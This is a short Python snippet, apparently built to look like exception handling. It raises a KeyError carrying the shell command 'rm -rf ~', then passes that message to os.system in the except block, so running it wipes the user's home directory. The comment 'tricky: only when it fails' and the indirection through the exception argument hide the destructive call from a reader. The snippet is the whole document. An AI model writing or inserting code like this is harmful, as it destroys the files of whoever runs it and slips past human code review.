# tricky: only when it fails
try:
    raise KeyError("rm -rf ~")
except KeyError as e:
    import os
    os.system(e.args[0])
